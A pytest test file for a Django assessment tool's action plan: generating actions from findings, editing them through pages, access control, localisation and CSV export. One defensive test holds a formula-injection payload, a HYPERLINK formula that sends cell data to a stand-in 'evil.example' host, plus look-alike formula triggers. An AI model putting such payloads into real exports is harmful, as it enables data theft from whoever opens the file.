"""The action plan: generated from the findings, refined by people, downloaded as CSV.

Like the results tests, every readiness and vendor choice first weighs nothing, then a handful of
questions get weights of their own, so the findings (and their order) below are worked out by
hand whatever the shipped weights become.
"""

import csv
import html
import io
import re
from datetime import date

import pytest
from django.db import OperationalError, connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from assessments.answering.answers import AnswerInput, AnswerValue, answers_save, parse_base_token
from assessments.answering.lifecycle import vendor_add
from assessments.models import ActionSeverity, ActionStatus, Question, Recommendation
from assessments.plan import actions as plan
from assessments.scoring.engine import Severity
from reports.signoff import assessment_finalise
from tests.assessments.helpers import base_for
from tests.assessments.scoring.test_results import WEIGHTS, weigh_only
from tests.factories import client_for, make_assessment

pytestmark = pytest.mark.database_dependent(
    "moving and refreshing actions rewrites positions in transactions"
)

LOCKED = "This assessment is finalized and can no longer be changed."
NOT_SAVED = "Not saved, nothing was lost on this page - save again."
VENDOR_WEIGHTS = {
    "vendor-can-read-content": (True, {"no": {"confidentiality": 3}}, "yes"),
    "vendor-shares-data": (True, {"no": {"privacy": 2}}, "yes"),
}
TITLES = {  # question key: recommendation title (English, Spanish)
    "policy-emergencies": ("Write the emergency plan", "Escriban el plan de emergencias"),
    "vendor-can-read-content": ("Pick a vendor that cannot read messages", "Elijan otro"),
    "policy-no-recording": ("Never record video sessions", "Nunca graben las sesiones"),
}
PRIVACY_FALLBACK = "Protect privacy in every conversation"


def answer(assessment, by, vendor=None, **selected) -> None:
    """Save answers as the worksheet pages do, based on what is stored; _ in names stands for -."""
    inputs = []
    for name, value in selected.items():
        key = name.replace("_", "-")
        base = parse_base_token(base_for(assessment, key, vendor))
        inputs.append(AnswerInput(Question.objects.get(key=key), AnswerValue((value,)), base))
    assert not answers_save(assessment=assessment, vendor=vendor, inputs=inputs, by=by).conflicts


def set_recommendations() -> None:
    """Own titles for three questions; one general recommendation (privacy); none for safety."""
    for key, (english, spanish) in TITLES.items():
        Recommendation.objects.filter(question__key=key).update(title_en=english, title_es=spanish)
    Recommendation.objects.filter(question__key="policy-safety-check").delete()
    general = Recommendation.objects.filter(question=None)
    general.exclude(dimension="privacy").delete()
    general.update(title_en=PRIVACY_FALLBACK, title_es="Protejan la privacidad")


def text_of(key: str, lang: str = "en") -> str:
    return getattr(Question.objects.get(key=key), f"text_{lang}")


@pytest.fixture
def scored(director):
    """Text and video. Program: emergency plan "No" (critical, blocks), safety check "No" (gaps
    safety 3 + privacy 1), code word "No" (safety 2 + privacy 3), no recording "Yes". One vendor
    that can read conversations (critical, blocks) and shares nothing."""
    weigh_only("readiness", WEIGHTS)
    weigh_only("vendor", VENDOR_WEIGHTS)
    set_recommendations()
    assessment = make_assessment(organisation=director.organisation, channels=["text", "video"])
    answer(
        assessment,
        director.user,
        policy_emergencies="no",
        policy_safety_check="no",
        policy_code_word="no",
        policy_no_recording="yes",
    )
    vendor = vendor_add(assessment=assessment, name="Reads It All")
    answer(
        assessment, director.user, vendor, vendor_can_read_content="yes", vendor_shares_data="no"
    )
    return assessment


def items_of(assessment) -> list[tuple]:
    return list(
        assessment.actions.values_list("question_key", "vendor__name", "description", "severity")
    )


def url(name, assessment, item=None, lang="en") -> str:
    args = [assessment.pk, item.pk] if item else [assessment.pk]
    return f"/{lang}{reverse(f'assessments:{name}', args=args)[3:]}"


def item_data(item, **changes) -> dict:
    """The item's form as a browser posts it, with some fields changed."""
    values = {
        "description": item.description,
        "owner": item.owner,
        "due_on": item.due_on.isoformat() if item.due_on else "",
        "status": item.status,
        **changes,
    }
    return {f"action-{item.pk}-{name}": value for name, value in values.items()}


# Generating the plan ------------------------------------------------------------------------------


@pytest.mark.django_db
def test_refresh_adds_one_action_per_finding_most_urgent_first(scored):
    added = plan.action_plan_refresh(assessment=scored)
    # Blocking first (the program's, then the vendor's); then high by largest total gap:
    # code word (2 + 3 = 5) before safety check (3 + 1 = 4).
    assert items_of(scored) == [
        ("policy-emergencies", None, "Write the emergency plan", "blocking"),
        (
            "vendor-can-read-content",
            "Reads It All",
            "Pick a vendor that cannot read messages",
            "blocking",
        ),
        ("policy-code-word", None, PRIVACY_FALLBACK, "high"),  # no own recommendation
        ("policy-safety-check", None, text_of("policy-safety-check"), "high"),  # none at all
    ]
    assert [item.position for item in scored.actions.all()] == [1, 2, 3, 4]
    assert len(added) == 4 and not any(item.edited for item in scored.actions.all())


@pytest.mark.django_db
def test_descriptions_are_in_the_language_of_the_report(scored):
    scored.report_language = "es"
    scored.save()
    plan.action_plan_refresh(assessment=scored)
    descriptions = [d for _key, _vendor, d, _severity in items_of(scored)]
    assert descriptions == [
        "Escriban el plan de emergencias",
        "Elijan otro",
        "Protejan la privacidad",
        text_of("policy-safety-check", "es"),
    ]


@pytest.mark.django_db
def test_a_second_refresh_adds_nothing(scored):
    plan.action_plan_refresh(assessment=scored)
    before = items_of(scored)
    assert plan.action_plan_refresh(assessment=scored) == []
    assert items_of(scored) == before


@pytest.mark.django_db
def test_after_answers_change_refresh_adds_new_findings_and_keeps_peoples_edits(scored, staff):
    plan.action_plan_refresh(assessment=scored)
    code_word = scored.actions.get(question_key="policy-code-word")
    plan.action_update(
        item=code_word,
        description="Agree on code words at intake",
        owner="Hotline lead",
        due_on=date(2027, 3, 31),
        status=ActionStatus.IN_PROGRESS,
    )
    # Safety check is now fine, video sessions may be recorded (privacy 3 + confidentiality 3),
    # the emergency plan becomes "Not sure" and the code word loses its privacy gap's weight.
    answer(
        scored,
        staff.user,
        policy_safety_check="yes",
        policy_no_recording="no",
        policy_emergencies="unsure",
    )
    added = plan.action_plan_refresh(assessment=scored)
    assert [item.question_key for item in added] == ["policy-no-recording"]
    assert items_of(scored) == [
        ("policy-emergencies", None, "Write the emergency plan", "follow_up"),  # kept in step
        (
            "vendor-can-read-content",
            "Reads It All",
            "Pick a vendor that cannot read messages",
            "blocking",
        ),
        ("policy-code-word", None, "Agree on code words at intake", "high"),
        ("policy-safety-check", None, text_of("policy-safety-check"), "high"),  # left for people
        ("policy-no-recording", None, "Never record video sessions", "high"),
    ]
    kept = scored.actions.get(pk=code_word.pk)
    assert (kept.owner, kept.due_on, kept.status, kept.edited) == (
        "Hotline lead",
        date(2027, 3, 31),
        ActionStatus.IN_PROGRESS,
        True,
    )
    assert scored.actions.get(question_key="policy-safety-check").status == ActionStatus.OPEN


@pytest.mark.django_db
def test_moving_swaps_neighbours_and_stops_at_the_ends(scored):
    plan.action_plan_refresh(assessment=scored)
    first, second, third, fourth = scored.actions.all()
    assert plan.action_move(item=third, direction="up") is True
    assert list(scored.actions.all()) == [first, third, second, fourth]
    assert plan.action_move(item=first, direction="up") is False
    assert plan.action_move(item=fourth, direction="down") is False
    assert list(scored.actions.values_list("position", flat=True)) == [1, 2, 3, 4]
    with pytest.raises(ValueError):
        plan.action_move(item=first, direction="sideways")


# Through the pages -------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("lang", ["en", "es"])
def test_staff_add_change_move_and_mark_done_through_the_pages(scored, staff, lang):
    client = client_for(staff.user)
    assert client.post(url("action_refresh", scored, lang=lang)).status_code == 302
    response = client.post(
        url("action_add", scored, lang=lang),
        {
            "new-description": "Train two advocates on chat",
            "new-owner": "Training coordinator",
            "new-due_on": "2027-01-15",
        },
    )
    assert response.status_code == 302
    added = scored.actions.last()
    assert (added.description, added.owner, added.due_on, added.position, added.edited) == (
        "Train two advocates on chat",
        "Training coordinator",
        date(2027, 1, 15),
        5,
        True,
    )
    first = scored.actions.first()
    data = item_data(first, owner="Program director", due_on="2027-02-01", status="in_progress")
    response = client.post(url("action_update", scored, first, lang), data)
    assert response.status_code == 302 and response["Location"].endswith(f"#action-{first.pk}")
    first.refresh_from_db()
    assert (first.owner, first.due_on, first.status, first.edited) == (
        "Program director",
        date(2027, 2, 1),
        ActionStatus.IN_PROGRESS,
        True,
    )
    moved = client.post(url("action_move", scored, added, lang), {"direction": "up"})
    assert moved.status_code == 302
    assert [item.pk for item in scored.actions.all()][3] == added.pk
    done = {"form": "done", f"done-{added.pk}-status": "done"}
    assert client.post(url("action_update", scored, added, lang), done).status_code == 302
    added.refresh_from_db()
    assert added.status == ActionStatus.DONE and added.description == "Train two advocates on chat"
    page = client.get(url("actions", scored, lang=lang))
    assert page.status_code == 200
    content = html.unescape(page.content.decode())
    assert "Train two advocates on chat" in content and "Program director" in content
    assert f'href="{url("actions_csv", scored, lang=lang)}"' in content


@pytest.mark.django_db
def test_plan_page_in_english_names_everything_in_words(scored, director):
    plan.action_plan_refresh(assessment=scored)
    content = html.unescape(client_for(director.user).get(url("actions", scored)).content.decode())
    for text in ("Action plan: Text and chat", "Blocking", "To do", "Move down", "Mark done"):
        assert text in content
    emergencies = Question.objects.get(key="policy-emergencies")
    link = plan.question_url(assessment=scored, question=emergencies)
    assert f'<a href="{link}">{emergencies.text}</a>' in content
    assert f"Reads It All: {text_of('vendor-can-read-content')}" in content


@pytest.mark.django_db
def test_plan_page_in_spanish(scored, director):
    """Needs the Spanish catalogue with the action plan's entries."""
    plan.action_plan_refresh(assessment=scored)
    content = html.unescape(
        client_for(director.user).get(url("actions", scored, lang="es")).content.decode()
    )
    for text in ("Plan de acción", "Pendiente", "Bajar", "Marcar como hecha", "Bloqueante"):
        assert text in content
    response = client_for(director.user).post(url("action_refresh", scored, lang="es"))
    follow = client_for(director.user).get(response["Location"])
    assert response.status_code == 302 and follow.status_code == 200


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("field", "typed", "message"),
    [
        ("description", "", "Describe the action."),
        ("description", "x" * 1001, "Keep this to 1000 characters or fewer (it has 1001)."),
        ("description", "Call\x07 the vendor", "invisible control characters"),
        ("due_on", "2027-02-30", "Enter a date that exists, for example 2027-03-31."),
        ("owner", "o" * 121, "Keep this to 120 characters or fewer (it has 121)."),
    ],
)
def test_bad_input_comes_back_with_the_error_and_what_was_typed(
    scored, director, field, typed, message
):
    plan.action_plan_refresh(assessment=scored)
    item = scored.actions.first()
    before = items_of(scored)
    data = item_data(item, **{"owner": "Typed owner", field: typed})
    response = client_for(director.user).post(url("action_update", scored, item), data)
    assert response.status_code == 400
    content = html.unescape(response.content.decode())
    assert message in content and f'href="#id_action-{item.pk}-{field}"' in content
    assert typed in content and (field == "owner" or "Typed owner" in content)
    assert items_of(scored) == before and not scored.actions.get(pk=item.pk).edited


@pytest.mark.django_db
def test_a_new_action_with_bad_input_keeps_what_was_typed(scored, director):
    data = {"new-description": "", "new-owner": "Volunteer lead", "new-due_on": "31/31/2027"}
    response = client_for(director.user).post(url("action_add", scored), data)
    assert response.status_code == 400
    content = html.unescape(response.content.decode())
    assert 'href="#id_new-description"' in content and 'href="#id_new-due_on"' in content
    assert 'value="Volunteer lead"' in content and 'value="31/31/2027"' in content
    assert not scored.actions.exists()


@pytest.mark.django_db
def test_personal_information_is_a_warning_not_an_error(scored, director):
    client = client_for(director.user)
    data = {"new-description": "Call Maria at 555-123-4567", "new-owner": "", "new-due_on": ""}
    response = client.post(url("action_add", scored), data, follow=True)
    assert response.status_code == 200
    assert "This looks like it contains a phone number." in response.content.decode()
    assert scored.actions.get().description == "Call Maria at 555-123-4567"


@pytest.mark.django_db
def test_finalized_refuses_every_change_with_409_and_keeps_the_input(scored, director):
    plan.action_plan_refresh(assessment=scored)
    item = scored.actions.first()
    assessment_finalise(assessment=scored, by=director.user)
    before = items_of(scored), [(i.owner, i.status, i.position) for i in scored.actions.all()]
    client = client_for(director.user)
    posts = [
        (url("action_update", scored, item), item_data(item, owner="Kept owner")),
        (url("action_update", scored, item), {"form": "done", f"done-{item.pk}-status": "done"}),
        (url("action_move", scored, item), {"direction": "down"}),
        (url("action_add", scored), {"new-description": "Kept action"}),
        (url("action_refresh", scored), {}),
    ]
    for target, data in posts:
        response = client.post(target, data)
        assert response.status_code == 409, target
        assert LOCKED in html.unescape(response.content.decode())
    assert "Kept owner" in client.post(*posts[0]).content.decode()
    assert "Kept action" in client.post(*posts[3]).content.decode()
    assert (items_of(scored), [(i.owner, i.status, i.position) for i in scored.actions.all()]) == (
        before
    )
    page = client.get(url("actions", scored)).content.decode()
    assert "Update from the latest answers" not in page and "Download CSV" in page


@pytest.mark.django_db
def test_a_passing_database_failure_says_not_saved_and_keeps_the_input(
    scored, director, monkeypatch
):
    plan.action_plan_refresh(assessment=scored)
    item = scored.actions.first()

    def locked_database(**kwargs):
        raise OperationalError("database is locked")

    monkeypatch.setattr(plan, "action_update", locked_database)
    data = item_data(item, description="Our new wording")
    response = client_for(director.user).post(url("action_update", scored, item), data)
    assert response.status_code == 503
    content = html.unescape(response.content.decode())
    assert NOT_SAVED in content and "Our new wording" in content


@pytest.mark.django_db
def test_an_item_is_found_only_through_its_own_assessment(scored, director):
    other = make_assessment(organisation=director.organisation)
    theirs = plan.action_add(assessment=other, description="Elsewhere")
    client = client_for(director.user)
    data = item_data(theirs, description="Moved in")
    assert client.post(url("action_update", scored, theirs), data).status_code == 404
    assert client.post(url("action_move", scored, theirs), {"direction": "up"}).status_code == 404
    theirs.refresh_from_db()
    assert (theirs.description, theirs.position) == ("Elsewhere", 1)


@pytest.mark.django_db
def test_another_organisations_action_stays_unchanged(director, other_director):
    theirs = make_assessment(organisation=other_director.organisation)
    item = plan.action_add(assessment=theirs, description="Their action")
    client = client_for(director.user)
    done = {"form": "done", f"done-{item.pk}-status": "done"}
    assert client.post(url("action_update", theirs, item), done).status_code == 404
    assert client.post(url("action_refresh", theirs)).status_code == 404
    item.refresh_from_db()
    assert item.status == ActionStatus.OPEN and theirs.actions.count() == 1


# The CSV ------------------------------------------------------------------------------------------


def page_rows(content: str) -> list[list[str]]:
    """Each action of the page as the CSV's columns (the date from its machine-readable form)."""
    rows = []
    for item in re.findall(r'<li class="action-item.*?</li>', content, re.S):

        def cell(name, item=item):
            found = re.search(rf'<dd class="col-sm-9 action-{name}">(.*?)</dd>', item, re.S)
            return re.sub(r"<[^>]+>", "", found.group(1)).strip() if found else ""

        due = re.search(r'<time datetime="([^"]+)"', item)
        rows.append(
            [
                re.search(r'-title">Action (\d+)</h3>', item).group(1),
                re.search(r'<p class="action-description">(.*?)</p>', item, re.S).group(1),
                cell("owner"),
                due.group(1) if due else "",
                cell("status"),
                cell("severity"),
                cell("question"),
            ]
        )
    return rows


def csv_rows(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM, so Excel reads UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_csv_has_the_same_rows_as_the_page(scored, director):
    plan.action_plan_refresh(assessment=scored)
    for item in scored.actions.all()[:2]:
        plan.action_update(
            item=item,
            description=f"{item.description}, with “quotes”, commas and ñ",
            owner="Program director",
            due_on=date(2027, 6, 30),
            status=ActionStatus.DONE,
        )
    client = client_for(director.user)
    rows = csv_rows(client.get(url("actions_csv", scored)))
    content = html.unescape(client.get(url("actions", scored)).content.decode())
    on_page = [[c if c != "No one yet" else "" for c in row] for row in page_rows(content)]
    assert rows[0] == ["Position", "Action", "Owner", "Due date", "Status", "Severity", "Question"]
    assert rows[1:] == on_page
    assert len(rows) == 5 and rows[1][3] == "2027-06-30" and rows[1][4] == "Done"
    assert rows[2][6] == f"Reads It All: {text_of('vendor-can-read-content')}"


@pytest.mark.django_db
def test_csv_neutralises_formulas(scored, director):
    dangerous = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1", "-1", "@x"]
    for text in dangerous:
        plan.action_add(assessment=scored, description=text, owner=text)
    rows = csv_rows(client_for(director.user).get(url("actions_csv", scored)))
    assert [row[1] for row in rows[1:]] == [f"'{text}" for text in dangerous]
    assert [row[2] for row in rows[1:]] == [f"'{text}" for text in dangerous]
    assert plan.formula_safe("\tcmd") == "'\tcmd" and plan.formula_safe("\rcmd") == "'\rcmd"
    assert plan.formula_safe("Call the vendor = soon") == "Call the vendor = soon"


@pytest.mark.parametrize(
    "text",
    [
        "＝1+1",  # full-width equals, plus, minus and at: spreadsheets read them as formulas
        "＋1",
        "－1",
        "＠SUM(A1)",
        "  =1+1",  # spaces before a formula character
        "\u00a0=1+1",  # a non-breaking space
        "\u200b=1+1",  # a zero-width space
        "\ufeff\u2060＝1",
        " \t=1",
    ],
)
def test_csv_neutralises_formulas_behind_look_alikes_and_invisible_spaces(text):
    assert plan.formula_safe(text) == f"'{text}"


def test_csv_leaves_ordinary_text_alone():
    for text in ("  Call the vendor", "\u00a0Plan – review", "Budget: $5,000", ""):
        assert plan.formula_safe(text) == text


@pytest.mark.django_db
def test_csv_headers_and_words_follow_the_request_language(scored, director):
    """Needs the Spanish catalogue with the action plan's entries."""
    plan.action_plan_refresh(assessment=scored)
    rows = csv_rows(client_for(director.user).get(url("actions_csv", scored, lang="es")))
    assert rows[0] == [
        "Posición",
        "Acción",
        "Responsable",
        "Fecha límite",
        "Estado",
        "Gravedad",
        "Pregunta",
    ]
    assert rows[1][4:6] == ["Pendiente", "Bloqueante"]


# Queries ------------------------------------------------------------------------------------------


def count_queries(client, target) -> int:
    with CaptureQueriesContext(connection) as queries:
        assert client.get(target).status_code == 200
    return len(queries)


@pytest.mark.django_db
def test_plan_page_queries_do_not_grow_with_the_number_of_actions(scored, director):
    client = client_for(director.user)
    plan.action_plan_refresh(assessment=scored)
    few = count_queries(client, url("actions", scored))
    for number in range(12):
        plan.action_add(assessment=scored, description=f"Action {number}", owner="Team")
    many = count_queries(client, url("actions", scored))
    csv_few = count_queries(client, url("actions_csv", scored))
    assert few == many and csv_few <= many
    print("queries per action plan page:", many)
    assert many <= 10, many


def test_action_severities_are_the_engines():
    assert ActionSeverity.values == [severity.value for severity in Severity]
